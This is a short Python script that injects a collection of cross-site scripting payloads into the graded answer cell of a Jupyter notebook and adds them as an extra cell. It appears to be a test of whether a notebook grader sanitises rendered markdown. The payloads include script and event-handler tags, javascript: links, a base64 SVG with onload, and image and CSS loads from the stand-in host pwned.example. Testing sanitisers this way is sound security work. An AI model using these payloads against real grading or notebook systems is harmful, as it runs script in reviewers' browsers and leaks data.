import json
from pathlib import Path

ANSWER = """6.9 is <script>document.title='pwned'</script> ln 1000
<img src=x onerror="document.title='pwned'"> <svg onload=document.title='pwned'>
[grades](javascript:document.title=1//pwned) ![seen](http://pwned.example/seen.png)
<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>
$\\href{javascript:pwned()}{x}$ <style>@import '//pwned.example/x.css'</style>
![drawing](attachment:pwned.svg)

[x]: javascript:document.title=1//pwned
[x] <javascript:pwned()> <!-- <h1>pwned
"""
DRAWING = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoKSIvPg=="


def hand_in(folder: Path) -> None:
    """Answer the question in words, and in more than words."""
    path = folder / "losses.ipynb"
    notebook = json.loads(path.read_text())
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "question":
            cell["source"] = ANSWER
            cell["attachments"] = {"pwned.svg": {"image/svg+xml": DRAWING}}
    own = {"cell_type": "markdown", "id": "own", "metadata": {}, "source": ANSWER}
    notebook["cells"].append(own)
    path.write_text(json.dumps(notebook))
